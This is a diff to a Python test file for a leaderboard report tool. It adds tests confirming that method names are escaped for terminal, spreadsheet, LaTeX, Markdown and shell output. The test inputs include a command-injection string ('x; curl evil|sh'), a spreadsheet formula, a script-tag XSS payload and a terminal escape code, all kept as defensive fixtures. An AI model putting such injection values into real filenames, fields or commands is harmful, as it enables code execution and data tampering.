@@ -18,10 +18,10 @@ from ringfence.errors import UserError
 from ringfence.report import board_csv, board_latex, board_markdown, board_markdown_short, build_board, export_board
 from ringfence.report.board import Method, read
 from ringfence.report.board_page import published, rankings
-from ringfence.report.export import escape
 from ringfence.report.page import danger
 from ringfence.report.published import PUBLISHED, matches
 from ringfence.report.standings import aggregate, aggregates, contests, references, standings
+from ringfence.words import latex, markdown, shell, spreadsheet, terminal
 
 EXPERT, MEDIUM = "simple_spread-expert", "simple_spread-medium"
 LOW, HIGH = 159.8, 516.8  # Simple Spread's normalisation
@@ -582,7 +582,7 @@ def test_latex_by_hand(folder):
 
 
 def test_latex_special_characters_are_escaped():
-    assert escape(r"a_b & 50% {x} #1 $ ~ ^ \ ≤") == (
+    assert latex(r"a_b & 50% {x} #1 $ ~ ^ \ ≤") == (
         r"a\_b \& 50\% \{x\} \#1 \$ \textasciitilde{} \textasciicircum{} \textbackslash{} $\le$"
     )
 
@@ -608,3 +608,38 @@ def test_exports_are_files(folder, tmp_path):
         assert export_board(folder, form, tmp_path / "out" / form).read_text()
     with pytest.raises(UserError, match="Unknown format 'xlsx'"):
         export_board(folder, "xlsx", tmp_path / "x")
+
+
+NAMES = [
+    "$x^$",
+    "x; curl evil|sh",
+    "=HYPERLINK(1)",
+    "<script>alert(1)</script>",
+    "\x1b[31mred",
+    "[/red]",
+    "a\nb",
+    "a|b_c*d`e",
+]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_names_stay_words_in_every_language(name):
+    import shlex
+
+    assert terminal(name).plain.isprintable() and not terminal(name).spans
+    assert not str(spreadsheet(name)).startswith(("=", "+", "-", "@"))
+    assert "\n" not in latex(name) and "<script>" not in markdown(name)
+    assert len(shlex.split(shell(name))) == 1
+    bar = markdown(name).replace("\\|", "")
+    assert "|" not in bar
+
+
+def test_pages_take_any_name(folder, tmp_path):
+    """A method whose name is mathematics, markup and a formula."""
+    for k, name in enumerate(("$x^$", "=1+1", "[red]b")):
+        cell(folder, {"default": summary([1] * 4, [2] * 4)}, name, mark=f"a{k}")
+    page = build_board(folder, tmp_path / "board.html").read_text()
+    assert "$x^$" in page
+    for form in ("csv", "markdown", "markdown-short", "latex"):
+        export_board(folder, form, tmp_path / form)
+    assert "\n=1" not in (tmp_path / "csv").read_text() and ",=1" not in (tmp_path / "csv").read_text()
